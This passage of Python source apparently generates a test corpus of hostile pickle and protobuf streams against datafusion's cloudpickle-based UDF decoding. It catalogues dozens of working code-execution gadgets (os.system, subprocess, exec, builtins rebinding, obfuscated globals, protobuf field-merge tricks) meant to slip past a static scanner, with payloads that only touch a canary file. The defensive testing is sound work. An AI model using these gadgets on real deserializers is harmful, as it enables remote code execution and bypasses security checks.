    """``partial(tarfile.TarFile, canary, 'w', None)``: opens the canary for writing, whatever (up to ten) further
    positional arguments the interpreter passes a hook; not code of the class's own."""
    return call(g("functools", "partial"), g("tarfile", "TarFile"), s(c), s("w"), NONE)


def _static(value: bytes) -> bytes:
    return call(g("builtins", "staticmethod"), value)


def _instance_of(cls: bytes) -> bytes:
    return call(g("copyreg", "__newobj__"), cls)


def r_hook(event: str) -> Gadget:
    """A by-value class (as cloudpickle builds one) whose hook is ``partial(tarfile.TarFile, canary, 'w', None)``,
    then what makes the interpreter call that hook while decoding (``event``)."""

    def gadget(a: Asm, c: str) -> None:
        hook = _tar(c)
        if event == "init-subclass":  # type.__new__ calls the base's __init_subclass__
            a(_skeleton("Sub", tup(_filled(_skeleton("Base"), __init_subclass__=_static(hook)))))
        elif event == "set-name":  # type_kwargs are the namespace: each value's __set_name__ runs
            a(_skeleton("Owner", namespace=dct((s("x"), _instance_of(_filled(_skeleton("D"), __set_name__=hook))))))
        elif event.startswith("metaclass-"):  # types.new_class calls the metaclass's hooks
            name = f"__{event[10:]}__"
            meta = _filled(_skeleton("M", tup(g("builtins", "type"))), **{name: hook})
            cls = _skeleton("K", meta=meta)
            a(_filled(cls, y=i(1)) if name == "__setattr__" else cls)
        elif event == "inherited-metaclass":  # a class built on B gets B's by-value metaclass, planted after B
            a(_skeleton("M", tup(g("builtins", "type"))))
            meta = a.memoize()
            a(POP, _skeleton("B", meta=get(meta)))
            base = a.memoize()
            a(POP, _filled(get(meta), __new__=hook), POP, _skeleton("X", tup(get(base))))
        elif event == "enum-mixin-new":  # an enum's by-value mixin creates each member
            mixin = _filled(_skeleton("Mix", tup(g("builtins", "int"))), __new__=hook)
            a(call(g(CP, "_make_skeleton_enum"), tup(mixin, g("enum", "Enum")), s("E"), s("E"), dct((s("A"), i(1))),
                   s("m"), NONE, NONE))  # fmt: skip
        elif event == "class-getitem":  # how a subscripted generic unpickles
            a(call(g("_operator", "getitem"), _filled(_skeleton("G"), __class_getitem__=hook), g("builtins", "int")))
        elif event == "abc-register":  # _class_setstate calls cls.register(sub) for its _abc_impl registry
            a(_filled(_skeleton("A", meta=g("abc", "ABCMeta")), register=hook, _abc_impl=lst(g("builtins", "int"))))
        elif event == "abc-subclasshook":  # register asks the registered class's __subclasshook__
            sub = _filled(_skeleton("B", meta=g("abc", "ABCMeta")), __subclasshook__=_static(hook))
            a(_filled(_skeleton("A", meta=g("abc", "ABCMeta")), _abc_impl=lst(sub)))
        elif event.startswith("hash-"):  # a dict key, set or frozenset item is hashed
            x = _instance_of(_filled(_skeleton("H"), __hash__=hook))
            a({"hash-additems": EMPTY_SET + MARK + x + ADDITEMS, "hash-setitem": EMPTY_DICT + x + i(1) + SETITEM,
               "hash-frozenset": MARK + x + FROZENSET}[event])  # fmt: skip
        elif event == "del-temporary":  # the unpickler drops it: __del__ runs
            a(_instance_of(_filled(_skeleton("D"), __del__=hook)), POP, NONE)
        elif event in ("range-index", "complex-complex"):  # a value call consumes a by-value instance
            func, name = event.split("-")
            a(call(g("builtins", func), _instance_of(_filled(_skeleton("I"), **{f"__{name}__": hook}))))
        elif event in ("build-getattr", "build-setattr"):  # BUILD looks __setstate__ up; a slot state is setattr'd
            x = _instance_of(_filled(_skeleton("S"), **{f"__{event[6:]}__": hook}))
            a(x, tup(NONE, dct((s("y"), i(1)))) if event == "build-setattr" else dct((s("y"), i(1))), BUILD)
        elif event in ("newobj-type", "copyreg-newobj-type"):  # type.__new__ on the stream's bases
            base, ns = tup(_filled(_skeleton("Base"), __init_subclass__=_static(hook))), EMPTY_DICT
            if event == "newobj-type":
                a(g("builtins", "type"), tup(s("X"), base, ns), NEWOBJ)
            else:
                a(call(g("copyreg", "__newobj__"), g("builtins", "type"), s("X"), base, ns))
        else:
            raise KeyError(event)

    return gadget


#: event -> carriers the corpus puts it in
HOOK_EVENTS: dict[str, tuple[str, ...]] = {
    "init-subclass": ("udf-scalar", "udf-aggregate"), "set-name": ("udf-scalar",),
    "metaclass-prepare": ("udf-window",), "metaclass-new": ("udf-scalar",), "metaclass-init": ("expr",),
    "metaclass-setattr": ("udf-scalar",), "inherited-metaclass": ("udf-scalar",), "enum-mixin-new": ("udf-window",),
    "class-getitem": ("udf-scalar", "logical"),
    "abc-register": ("udf-scalar",), "abc-subclasshook": ("udf-aggregate",), "hash-additems": ("udf-scalar",),
    "hash-setitem": ("udf-window", "physical"), "hash-frozenset": ("udf-scalar",), "del-temporary": ("udf-scalar",),
    "range-index": ("udf-scalar",), "complex-complex": ("chn",), "build-getattr": ("udf-scalar",),
    "build-setattr": ("udf-aggregate",), "newobj-type": ("udf-scalar", "expr"), "copyreg-newobj-type": ("udf-scalar",),
}  # fmt: skip


def r_fake_module_partial(a: Asm, c: str) -> None:
    """``getattr(dynamic_subimport('functools', {'partial': logging.FileHandler}), 'partial')(canary)``: a fresh
    module named like an allowlisted one, whose attribute the stream chose."""
    fake = call(g(CP, "dynamic_subimport"), s("functools"), dct((s("partial"), g("logging", "FileHandler"))))
    a(call(getattr_(fake, "partial"), s(c)))


def r_expr_payload_encoded(encoding: str, errors: str = "") -> Callable[[Path], bytes]:
    """``(Expr, Expr)`` pickled: a plain Expr as pickle writes it, then ``Expr._reconstruct(_codecs.encode(text,
    encoding[, errors]))`` whose text decodes to an Expr holding a hostile UDF (the os.system gadget): the
    codec rebuilds the protobuf bytes exactly, though they appear nowhere in the stream."""

    def build(canary: Path) -> bytes:
        hostile = in_udf("scalar", system_plain)(canary)
        if len(hostile) % 2:  # a 2-byte codec needs an even length: one more space in the command
            hostile = in_udf("scalar", lambda a, c: a(call(g("os", "system"), s(cmd(c) + " "))))(canary)
        text = hostile.decode(encoding, errors or "strict")
        reconstruct = getattr_(g("datafusion.expr", "Expr"), "_reconstruct")
        encoded = call(g("_codecs", "encode"), s(text), s(encoding), *([s(errors)] if errors else []))
        plain = call(reconstruct, bb(real_plain_expr()))
        return Asm()(tup(plain, call(reconstruct, encoded))).pickle(4)

    return build


@functools.cache
def real_plain_expr() -> bytes:
    from datafusion import col, lit

    return (col("a") + lit(1)).to_bytes()


# --- R7: streams a static reader may not walk --------------------------------------------------------------------------
def w_garbage_after_stop(real_stream: bytes, c: str) -> bytes:
    """Hostile stream, STOP, then bytes that are no pickle at all (the unpickler never reads past STOP)."""
    return prefixed(system_plain, real_stream, c) + b"\xff\xfe\x00 not a pickle \x8c\xff"


def w_pop_mark(a: Asm, c: str) -> None:
    """MARK, junk, POP_MARK (discards to the mark) before the gadget."""
    a(MARK, s("junk"), i(1), EMPTY_LIST, POP_MARK)
    system_plain(a, c)


def w_dup(a: Asm, c: str) -> None:
    """The gadget's result DUPlicated and popped."""
    system_plain(a, c)
    a(DUP, POP)


def w_midstream_proto(a: Asm, c: str) -> None:
    """A second PROTO opcode (protocol 4) in the middle of the stream, then the gadget."""
    a(pa_.proto(4))
    system_plain(a, c)


def w_midstream_frame(a: Asm, c: str) -> None:
    """A FRAME opcode in the middle of the stream announcing exactly the gadget's bytes."""
    inner = Asm()
    system_plain(inner, c)
    a(b"\x95" + len(inner.buf).to_bytes(8, "little"), bytes(inner.buf))


def w_protocol0(a: Asm, c: str) -> None:
    """The gadget in protocol-0 text opcodes (GLOBAL, UNICODE, text PUT/GET) inside a protocol-5 stream."""
    index = a.memo
    a(text_global("posix", "system"), b"p%d\n" % index, POP, b"g%d\n" % index)
    a.memo += 1
    a(MARK, b"V" + cmd(c).encode() + b"\n", TUPLE, REDUCE)


def w_set_ops(a: Asm, c: str) -> None:
    """EMPTY_SET/ADDITEMS, FROZENSET and BYTEARRAY8 values (popped) before the gadget."""
    a(EMPTY_SET, MARK, i(1), i(2), ADDITEMS, POP, MARK, s("x"), FROZENSET, POP)
    a(b"\x96" + (3).to_bytes(8, "little") + b"abc", POP)
    system_plain(a, c)


def w_numbers(a: Asm, c: str) -> None:
    """LONG1/LONG4, BINFLOAT, protocol-0 INT/LONG/FLOAT text numbers (popped) before the gadget."""
    a(b"\x8a\x02\x01\x01", POP, b"\x8b\x02\x00\x00\x00\xff\x7f", POP, b"G@\t!\xfbTD-\x18", POP)
    a(b"I01\n", POP, b"L12345678901234567890L\n", POP, b"F1.5\n", POP)
    system_plain(a, c)


def w_deep_nesting(depth: int) -> Gadget:
    """The gadget inside ``depth`` nested 1-tuples (the C unpickler builds it without recursion)."""

    def gadget(a: Asm, c: str) -> None:
        a(MARK * depth)
        system_plain(a, c)
        a(TUPLE * depth)

    return gadget


# protobuf-level tricks (expr carrier): built on the real scalar UDF expr
def _udf_node(blob: bytes) -> tuple[bytes, bytes, bytes]:
    """(fun_name+args fields, fun_definition payload, field-20 key) of a top-level scalar UDF expr."""
    ((number, wire, a, b, _tag),) = list(pa_.fields(blob))
    assert (number, wire) == (20, 2)
    rest, fun = b"", b""
    for n, _w, x, y, t in pa_.fields(blob, a, b):
        if n == 3:
            fun = blob[x:y]
        else:
            rest += blob[t:y]
    return rest, fun, varint(20 << 3 | 2)


def hostile_scalar_fun(c: str, gadget: Gadget = system_plain) -> bytes:
    rest, fun, _key = _udf_node(real("scalar"))
    head, st = pa_.split_frame(fun)
    return head + prefixed(gadget, st, c)


def w_pb_duplicate_field(canary: Path) -> bytes:
    """ScalarUDFExprNode with fun_definition twice: the real one, then the hostile one (protobuf: last wins)."""
    rest, fun, _ = _udf_node(real("scalar"))
    return ld(20, rest + ld(3, fun) + ld(3, hostile_scalar_fun(str(canary))))


def w_pb_oneof_merge(canary: Path) -> bytes:
    """LogicalExprNode.scalar_udf_expr twice: a real node, then one holding only a fun_definition; prost merges
    the second into the first (same oneof arm), so the hostile fun_definition wins."""
    rest, fun, _ = _udf_node(real("scalar"))
    return ld(20, rest + ld(3, fun)) + ld(20, ld(3, hostile_scalar_fun(str(canary))))


def _long_varint(n: int, width: int = 6) -> bytes:
    """``n`` as a non-minimal varint of ``width`` bytes (continuation bits on zero groups)."""
    out = bytearray()
    for k in range(width):
        byte = (n >> (7 * k)) & 0x7F
        out.append(byte | (0x80 if k < width - 1 else 0))
    assert n >> (7 * width) == 0
    return bytes(out)


def w_pb_nonminimal_varint(canary: Path) -> bytes:
    """Every length on the path to the hostile fun_definition written as a 6-byte non-minimal varint."""
    rest, _fun, _ = _udf_node(real("scalar"))
    fun = hostile_scalar_fun(str(canary))
    node = rest + b"\x1a" + _long_varint(len(fun)) + fun
    return b"\xa2\x01" + _long_varint(len(node)) + node


def w_pb_unknown_group(canary: Path) -> bytes:
    """An unknown field 15 of wire type START_GROUP..END_GROUP (prost skips groups) before the fun_definition."""
    rest, _fun, _ = _udf_node(real("scalar"))
    group = varint(15 << 3 | 3) + varint(1 << 3 | 0) + varint(7) + varint(15 << 3 | 4)
    return ld(20, rest + group + ld(3, hostile_scalar_fun(str(canary))))


def w_pb_unknown_field_first(canary: Path) -> bytes:
    """Unknown fields (a fixed64 and a 5-byte string under number 1000) in front of the UDF node."""
    rest, _fun, _ = _udf_node(real("scalar"))
    junk = varint(999 << 3 | 1) + b"\x00" * 8 + ld(1000, b"hello")
    return junk + ld(20, rest + ld(3, hostile_scalar_fun(str(canary))))


# --- R8: hostile UDFs under plan nodes, written by datafusion itself ------------------------------------------------------
class SystemOnLoad:
    """A UDF callable whose pickled form is ``os.system(cmd)``: datafusion's own encoder writes the hostile
    stream into the plan (built, never loaded, here)."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __call__(self, a):  # noqa: ANN001, ANN204 - a pyarrow array
        return a

    def __reduce__(self):  # noqa: ANN204
        return (os.system, (self.command,))


def hostile_ctx(c: str):  # noqa: ANN201
    import pyarrow as pa
    from datafusion import SessionContext, udf

    ctx = SessionContext()
    ctx.register_parquet("t", str(PARQUET))
    ctx.register_udf(udf(SystemOnLoad(cmd(c)), [pa.int64()], pa.int64(), "immutable", name="h"))
    return ctx


def plan_of(query: str, physical: bool) -> Callable[[Path], bytes]:
    def build(canary: Path) -> bytes:
        df = hostile_ctx(str(canary)).sql(query.format(out=canary.parent / "copy-out"))
        return df.execution_plan().to_bytes() if physical else df.logical_plan().to_bytes()

    return build


def u_unnest_expr(canary: Path) -> bytes:
    """LogicalExprNode.unnest (35) {exprs: [h(a)]}: datafusion decodes it (unnest only plans later)."""
    import pyarrow as pa
    from datafusion import col, udf

    inner = udf(SystemOnLoad(cmd(str(canary))), [pa.int64()], pa.int64(), "immutable", name="h")(col("a"))
    return ld(35, ld(1, inner.to_bytes()))


# --- the catalogue ------------------------------------------------------------------------------------------------------
def _hostile() -> list[Case]:
    out: list[Case] = []

    def add(name: str, rule: str, carrier: str, build: Callable[[Path], bytes], note: str = "",
            receiver: str = "", kind: str = "") -> None:  # fmt: skip
        out.append(Case(name, rule, carrier, build, True, note, kind or KINDS[carrier], receiver))

    def everywhere(name: str, rule: str, gadget: Gadget, carriers: tuple[str, ...], note: str = "",
                   receiver: str = "") -> None:  # fmt: skip
        builders = {
            "pickle": in_pickle(gadget), "udf-scalar": in_udf("scalar", gadget),
            "udf-aggregate": in_udf("aggregate", gadget), "udf-window": in_udf("window", gadget),
            "expr": in_udf("nested", gadget), "logical": in_udf("logical", gadget),
            "physical": in_udf("physical", gadget),
        }  # fmt: skip
        for carrier in carriers:
            if carrier == "chn":
                add(
                    f"{name}@chn",
                    rule,
                    "chn",
                    in_udf("chn", gadget),
                    note,
                    f"codec:{CODEC_ID};{receiver}".rstrip(";"),
                )
            elif carrier.startswith("text-"):
                enc, inner = carrier[5:].split("/")
                add(f"{name}@{enc}-{inner}", rule, f"text-{enc}", as_text(enc, builders[inner]), note, receiver,
                    f"{enc}:{KINDS[inner]}")  # fmt: skip
            else:
                add(f"{name}@{carrier}", rule, carrier, builders[carrier], note, receiver)

    # R1 mutation
    r = "R1-mutation"
    everywhere(
        "builtins-getattr-rebound",
        r,
        m_builtins_getattr("exec"),
        ("pickle",),
        "builtins.__dict__['getattr'] = builtins.__dict__.get('exec'); getattr(src, {}); restored",
    )
    everywhere(
        "builtins-getattr-rebound-fn",
        r,
        m_builtins_getattr("fn"),
        ("udf-scalar", "udf-window"),
        "builtins.__dict__['getattr'] = <by-value function>; getattr('x', 'y'); restored",
    )
    everywhere(
        "expr-reconstruct-rebound",
        r,
        m_expr_reconstruct,
        ("pickle", "text-b64/pickle"),
        "BUILD on datafusion.expr.Expr sets _reconstruct = exec; getattr(Expr, '_reconstruct')(b'<src>')",
    )
    add(
        "codecs-encode-self-rebound@pickle",
        r,
        "pickle",
        in_pickle(m_codecs_encode_self, protocol=2),
        "BUILD on _codecs.encode.__self__ (the _codecs module) sets encode = open; then the protocol-2 Expr "
        "tail (which calls _codecs.encode itself) after restoring",
    )
    everywhere(
        "copyreg-reconstructor-rebound",
        r,
        m_copyreg_globals("exec"),
        ("pickle",),
        "copyreg._reconstructor.__globals__['_reconstructor'] = exec; _reconstructor(src, {}, {})",
    )
    everywhere(
        "copyreg-reconstructor-rebound-fn",
        r,
        m_copyreg_globals("fn"),
        ("udf-aggregate", "physical"),
        "…['_reconstructor'] = <by-value function>; _reconstructor(object, object, None)",
    )
    everywhere(
        "functools-partial-rebound",
        r,
        m_functools_partial,
        ("udf-scalar", "udf-window"),
        "functools.__dict__['partial'] = <by-value function>; functools.partial(len)",
    )
    everywhere(
        "builtin-type-rebound-build",
        r,
        m_builtin_type_build,
        ("udf-scalar", "chn", "physical", "expr"),
        "BUILD on subimport('cloudpickle.cloudpickle') replaces _builtin_type; the UNCHANGED real stream "
        "calls it; decode succeeds",
    )
    everywhere(
        "builtin-type-rebound-setitem",
        r,
        m_builtin_type_setitem,
        ("udf-aggregate", "logical"),
        "SETITEM on cloudpickle.cloudpickle.__dict__ replaces _builtin_type; the real stream calls it",
    )
    everywhere(
        "meta-path-append",
        r,
        m_meta_path_append,
        ("udf-scalar",),
        "APPEND a finder to sys.meta_path, then subimport a missing module; load raises afterwards",
    )
    everywhere(
        "sys-modules-alias",
        r,
        m_sys_modules_alias,
        ("pickle", "udf-window"),
        "sys.modules['datafusion_udf_helpers'] = os; STACK_GLOBAL datafusion_udf_helpers.system",
    )

    # R2 computed owners/names
    r = "R2-computed"
    sub_os = c_getattr_subimport("os", "system", one(lambda c: s(cmd(c))))
    everywhere("getattr-subimport-os-system", r, sub_os,
               ("udf-scalar", "udf-aggregate", "udf-window", "expr", "logical", "physical", "chn",
                "text-hex/expr", "text-b64/physical"),
               "getattr(subimport('os'), 'system')(cmd)")  # fmt: skip
    everywhere(
        "getattr-subimport-subprocess-run",
        r,
        c_getattr_subimport("subprocess", "run", run_args),
        ("udf-window", "udf-scalar"),
        "getattr(subimport('subprocess'), 'run')(['touch', canary])",
    )
    everywhere(
        "globals-walk-cloudpickle",
        r,
        c_globals_walk_cloudpickle,
        ("udf-scalar", "logical"),
        "_make_function.__globals__ .get('platform') .os .system: owners are call results",
    )
    everywhere(
        "globals-walk-expr",
        r,
        c_globals_walk_expr,
        ("pickle", "text-hex/pickle"),
        "Expr.__init__.__globals__ .get('pa') .lib .os .system",
    )
    everywhere(
        "subimport-computed-str",
        r,
        c_subimport_str,
        ("udf-scalar", "expr"),
        "subimport(str(b'posix', 'ascii')).system(cmd)",
    )
    everywhere(
        "subimport-computed-bytes-decode",
        r,
        c_subimport_bytes_decode,
        ("udf-aggregate",),
        "subimport(bytes.decode(b'os')).system(cmd)",
    )
    everywhere(
        "stack-global-rot13",
        r,
        c_stack_global_rot13,
        ("pickle", "udf-scalar"),
        "STACK_GLOBAL(_codecs.decode('bf','rot13'), _codecs.decode('flfgrz','rot13'))",
    )
    everywhere(
        "stack-global-str",
        r,
        c_stack_global_str,
        ("udf-scalar", "chn", "udf-window"),
        "STACK_GLOBAL(str(b'posix','ascii'), str(b'system','ascii'))",
    )

    # R3 dotted walks
    r = "R3-dotted"
    everywhere("cloudpickle-platform-os-spawnvp", r, dotted(CP, "platform.os.spawnvp", spawnvp_args),
               ("udf-scalar", "logical", "text-b64/expr", "pickle"), "STACK_GLOBAL cloudpickle.cloudpickle "
               "platform.os.spawnvp")  # fmt: skip
    everywhere(
        "pyarrow-util-os-spawnlp",
        r,
        dotted("pyarrow.util", "os.spawnlp", spawnlp_args),
        ("udf-aggregate", "pickle"),
        "STACK_GLOBAL pyarrow.util os.spawnlp",
    )
    everywhere(
        "cloudpickle-sys-call-tracing",
        r,
        d_call_tracing,
        ("udf-window",),
        "cloudpickle.cloudpickle sys.call_tracing(pyarrow.util os.posix_spawnp, args)",
    )
    everywhere(
        "platform-os-posix-spawn",
        r,
        dotted("platform", "os.posix_spawn", posix_spawn_args),
        ("physical", "pickle"),
        "STACK_GLOBAL platform os.posix_spawn (spawns, does not wait)",
    )
    everywhere(
        "imaplib-subprocess-run",
        r,
        dotted("imaplib", "subprocess.run", run_args),
        ("udf-scalar",),
        "STACK_GLOBAL imaplib subprocess.run (imaplib imports subprocess)",
    )
    everywhere(
        "imaplib-subprocess-call",
        r,
        dotted("imaplib", "subprocess.call", run_args),
        ("udf-aggregate",),
        "STACK_GLOBAL imaplib subprocess.call",
    )
    everywhere(
        "datafusion-expr-pa-lib-os-spawnvp",
        r,
        dotted("datafusion.expr", "pa.lib.os.spawnvp", spawnvp_args),
        ("udf-window", "expr"),
        "STACK_GLOBAL datafusion.expr pa.lib.os.spawnvp",
    )

    # R4 other calling opcodes
    r = "R4-opcodes"
    everywhere("obj-os-system", r, o_obj_plain, ("pickle", "udf-scalar"), "OBJ calls os.system")
    everywhere(
        "obj-by-value-function",
        r,
        o_obj_by_value,
        ("udf-window", "text-b64/udf-scalar"),
        "OBJ calls a by-value (cloudpickle-shaped) function",
    )
    everywhere(
        "inst-os-system",
        r,
        o_inst("os", "system", lambda c: s(cmd(c))),
        ("pickle", "udf-aggregate"),
        "INST os system",
    )
    everywhere(
        "inst-imaplib-subprocess-run",
        r,
        o_inst("imaplib", "subprocess.run", argv),
        ("udf-window",),
        "INST with a dotted name (imaplib subprocess.run)",
    )
    everywhere(
        "newobj-starmap",
        r,
        o_newobj_starmap,
        ("udf-scalar",),
        "NEWOBJ itertools.starmap(<by-value fn>, [()]) driven by builtins.tuple",
    )
    everywhere(
        "newobj-ex-map",
        r,
        o_newobj_ex_map,
        ("pickle", "udf-aggregate"),
        "NEWOBJ_EX map(os.system, [cmd]) driven by builtins.tuple",
    )
    ext_note = ("needs a receiver that registered copyreg.add_extension('os', 'system', code) before loading "
                "(canary verification registers it in the loading process)")  # fmt: skip
    everywhere("ext1", r, o_ext(1), ("pickle", "udf-window"), ext_note, ext_receiver(1))
    everywhere("ext2", r, o_ext(2), ("udf-scalar", "text-hex/pickle"), ext_note, ext_receiver(2))
    everywhere("ext4", r, o_ext(4), ("udf-aggregate", "logical"), ext_note, ext_receiver(4))
    persid_note = ("PERSID/BINPERSID only load with a persistent_load (plain pickle.loads raises "
                   "UnpicklingError there); the receiver's persistent_load returns the id")  # fmt: skip
    everywhere("binpersid-callable", r, o_binpersid, ("pickle",), persid_note, "persistent_load")
    everywhere("persid-before-gadget", r, o_persid_first, ("pickle",), persid_note, "persistent_load")

    # R5 third-party targets
    r = "R5-nonstdlib"
    everywhere(
        "pyarrow-osfile", r, n_osfile, ("udf-scalar", "physical", "pickle"), "pyarrow.lib.OSFile(canary, 'w')"
    )
    everywhere("pyarrow-osfile-newobj", r, n_osfile_newobj, ("udf-scalar", "udf-window"),
               "NEWOBJ pyarrow.lib.OSFile (canary, 'w')")  # fmt: skip
    everywhere("pyarrow-osfile-copyreg-newobj", r, n_osfile_copyreg_newobj, ("udf-aggregate",),
               "copyreg.__newobj__(pyarrow.lib.OSFile, canary, 'w')")  # fmt: skip
    everywhere(
        "pyarrow-create-memory-map",
        r,
        n_memory_map,
        ("udf-aggregate",),
        "pyarrow.lib.create_memory_map(canary, 8)",
    )
    everywhere(
        "datafusion-copy-to",
        r,
        n_copy_to,
        ("udf-scalar", "pickle", "logical", "udf-window"),
        "DataFrame.collect(SessionContext.sql(SessionContext(), \"COPY (SELECT 1) TO '<canary>'\")): "
        "creates a directory",
    )
    everywhere(
        "datafusion-write-csv",
        r,
        n_write_csv,
        ("udf-window", "expr"),
        "DataFrame.write_csv(SessionContext.sql(SessionContext(), 'SELECT 1'), canary)",
    )

    # R6 allowlisted reconstructors
    r = "R6-reconstructor"
    everywhere(
        "skeleton-class-function-metaclass",
        r,
        r_skeleton_function_meta,
        ("udf-aggregate", "udf-scalar", "chn"),
        "_make_skeleton_class(<by-value function>, 'Acc', ...)",
    )
    everywhere(
        "skeleton-class-builtin-metaclass",
        r,
        r_skeleton_builtin_meta,
        ("udf-window", "physical"),
        "_make_skeleton_class(os.posix_spawn, '/usr/bin/touch', ('touch', canary), {}, None, None)",
    )
    everywhere(
        "functiontype-called",
        r,
        r_function_called("cloudpickle"),
        ("udf-scalar", "pickle"),
        "types.FunctionType(_builtin_type('CodeType')(...), {})()",
    )
    everywhere(
        "functiontype-codetype-direct-called",
        r,
        r_function_called("direct"),
        ("udf-aggregate",),
        "types.FunctionType(types.CodeType(...), {})()",
    )
    everywhere(
        "make-function-called",
        r,
        r_make_function_called,
        ("udf-scalar", "expr", "udf-window"),
        "a cloudpickle-built function called by REDUCE at load",
    )
    everywhere(
        "exec-code-object", r, r_exec_code, ("udf-scalar",), "builtins.__dict__.get('exec')(<code>, {})"
    )
    everywhere(
        "reconstructor-popen",
        r,
        r_reconstructor_popen(g("subprocess", "Popen")),
        ("pickle",),
        "copyreg._reconstructor(subprocess.Popen, subprocess.Popen, argv)",
    )
    everywhere(
        "reconstructor-popen-dotted",
        r,
        r_reconstructor_popen(g("imaplib", "subprocess.Popen")),
        ("udf-scalar",),
        "copyreg._reconstructor(imaplib.subprocess.Popen, ..., argv)",
    )

    everywhere(
        "reconstructor-base-init",
        r,
        r_reconstructor_base_init,
        ("udf-scalar", "physical"),
        "copyreg._reconstructor(string.Template, wave.Wave_write, canary): the base's __init__ opens the canary",
    )
    everywhere(
        "defaultdict-factory-getitem",
        r,
        r_defaultdict_getitem,
        ("udf-scalar", "udf-window"),
        "operator.getitem(defaultdict(partial(logging.FileHandler, canary)), 'k')",
    )
    everywhere(
        "defaultdict-factory-chainmap-or",
        r,
        r_chainmap_or(_factory_dict),
        ("udf-aggregate",),
        "functools.reduce(operator.or_, [ChainMap({}), ChainMap(defaultdict(partial(FileHandler, canary)), "
        "{'k': 1})])",
    )
    everywhere(
        "defaultdict-factory-by-build",
        r,
        r_chainmap_or(_factory_by_build),
        ("udf-scalar",),
        "the same, the factory set by BUILD on defaultdict(None)",
    )
    everywhere(
        "defaultdict-factory-by-newobj",
        r,
        r_chainmap_or(_factory_by_newobj),
        ("udf-window",),
        "the same, the defaultdict created by NEWOBJ and its factory set by BUILD",
    )
    everywhere(
        "partial-func-swapped-by-build",
        r,
        r_chainmap_or(_factory_swapped),
        ("udf-scalar",),
        "the same, the factory partial(frozenset) pointed at FileHandler(canary) by partial.__setstate__",
    )
    for hook, trigger, opcode in (("append", APPEND, "APPEND"), ("append", b"e", "APPENDS"),
                                  ("add", ADDITEMS, "ADDITEMS"), ("__setstate__", BUILD, "BUILD")):
        everywhere(f"planted-{hook.strip('_')}-{opcode.lower()}", r, r_planted_hook(hook, trigger),
                   ("udf-scalar",) if opcode != "BUILD" else ("udf-scalar", "physical"),
                   f"SimpleNamespace with {hook}=logging.FileHandler set by BUILD, then {opcode} calls it")  # fmt: skip
    everywhere("by-value-property-getattr", r, r_property_getattr, ("udf-scalar", "logical"),
               "getattr(<by-value instance>, 'p'): a property whose getter is partial(zipfile.ZipFile, canary, …)")
    everywhere("by-value-class-setstate-partial", r, r_class_setstate_partial, ("udf-window", "physical"),
               "a by-value class's __setstate__ = staticmethod(partial(zipfile.ZipFile, canary, 'w', 0))")
    everywhere("by-value-enum-missing-partial", r, r_enum_missing_partial, ("udf-scalar",),
               "Color(999) where the by-value enum's _missing_ = staticmethod(partial(zipfile.ZipFile, canary, …))")
    everywhere("class-setstate-result-append", r, r_class_append, ("udf-scalar", "udf-aggregate"),
               "APPEND on _class_setstate's result: the by-value class's append = partial(zipfile.ZipFile, …)")
    everywhere("codec-planted-through-chainmap", r, r_codec_registered, ("udf-scalar", "udf-window"),
               "SETITEM on ChainMap(encodings._cache) registers a codec; _codecs.encode('x', it) runs its encoder")
    everywhere("planted-mro-entries", r, r_mro_entries, ("udf-aggregate", "chn"),
               "_make_skeleton_class with a base whose planted __mro_entries__ opens the canary")  # fmt: skip
    for encoding, errors in (("utf-16-le", "surrogatepass"), ("raw_unicode_escape", ""), ("latin-1", "strict")):
        add(f"expr-payload-{encoding}{'-' + errors if errors else ''}@pickle", r, "pickle",
            r_expr_payload_encoded(encoding, errors),
            f"Expr._reconstruct(_codecs.encode(text, {encoding!r}{', ' + repr(errors) if errors else ''})) after a "
            "plain Expr: the hidden Expr's UDF runs os.system")  # fmt: skip
    for event, carriers in HOOK_EVENTS.items():
        everywhere(f"by-value-hook-{event}", r, r_hook(event), carriers,
                   f"a by-value class's hook is partial(tarfile.TarFile, canary, 'w', None); {event} calls it")
    everywhere(
        "fake-module-partial",
        r,
        r_fake_module_partial,
        ("udf-scalar", "logical"),
        "getattr(dynamic_subimport('functools', {'partial': logging.FileHandler}), 'partial')(canary)",
    )

    # R7 unwalkable streams / protobuf framing
    r = "R7-unwalkable"
    add(
        "garbage-after-stop@pickle",
        r,
        "pickle",
        lambda canary: w_garbage_after_stop(plain_expr_pickle(4), str(canary)),
        "os.system gadget; junk after STOP",
    )
    add(
        "garbage-after-stop@udf-scalar",
        r,
        "udf-scalar",
        in_stream("scalar", w_garbage_after_stop),
        "os.system gadget; junk after STOP inside the fun_definition",
    )
    for name, gadget, carriers in (
        ("pop-mark", w_pop_mark, ("udf-scalar",)), ("dup", w_dup, ("udf-scalar", "pickle")),
        ("midstream-proto", w_midstream_proto, ("udf-scalar",)), ("midstream-frame", w_midstream_frame, ("udf-aggregate",)),
        ("protocol0-opcodes", w_protocol0, ("udf-window", "pickle")), ("set-bytearray-ops", w_set_ops, ("udf-scalar",)),
        ("number-ops", w_numbers, ("pickle", "udf-scalar")), ("deep-nesting-5000", w_deep_nesting(5000), ("udf-scalar",)),
        ("deep-nesting-100000", w_deep_nesting(100_000), ("pickle",)),
    ):  # fmt: skip
        everywhere(name, r, gadget, carriers, f"os.system gadget with {name} opcodes around it")
    add(
        "pb-duplicate-fun-definition@expr",
        r,
        "expr",
        w_pb_duplicate_field,
        "ScalarUDFExprNode.fun_definition twice: real, then hostile (last wins)",
    )
    add(
        "pb-oneof-merge@expr",
        r,
        "expr",
        w_pb_oneof_merge,
        "scalar_udf_expr twice; prost merges, the hostile fun_definition wins",
    )
    add("pb-nonminimal-varint@expr", r, "expr", w_pb_nonminimal_varint, "6-byte non-minimal length varints")
    add("pb-unknown-group@expr", r, "expr", w_pb_unknown_group, "unknown START_GROUP/END_GROUP field first")
    add(
        "pb-unknown-fields-first@expr",
        r,
        "expr",
        w_pb_unknown_field_first,
        "unknown fixed64 + LEN fields first",
    )

    # R8 hostile UDFs under plan nodes (written by datafusion)
    r = "R8-unexpanded"
    add("unnest-expr@expr", r, "expr", u_unnest_expr, "LogicalExprNode.unnest{h(a)} built by hand around "
        "datafusion's own h(a) bytes")  # fmt: skip
    copy_pq = "COPY (SELECT h(a) AS x FROM t) TO '{out}.parquet' STORED AS PARQUET"
    copy_csv = "COPY (SELECT h(a) AS x FROM t) TO '{out}.csv' STORED AS CSV"
    for name, query in (
        ("copy-to-parquet", copy_pq), ("copy-to-csv", copy_csv),
        ("explain-analyze", "EXPLAIN ANALYZE SELECT h(a) FROM t"),
        ("unnest-plan", "SELECT unnest(make_array(h(a))) AS u FROM t"),
        ("union-all", "SELECT a FROM t UNION ALL SELECT h(b) FROM t"),
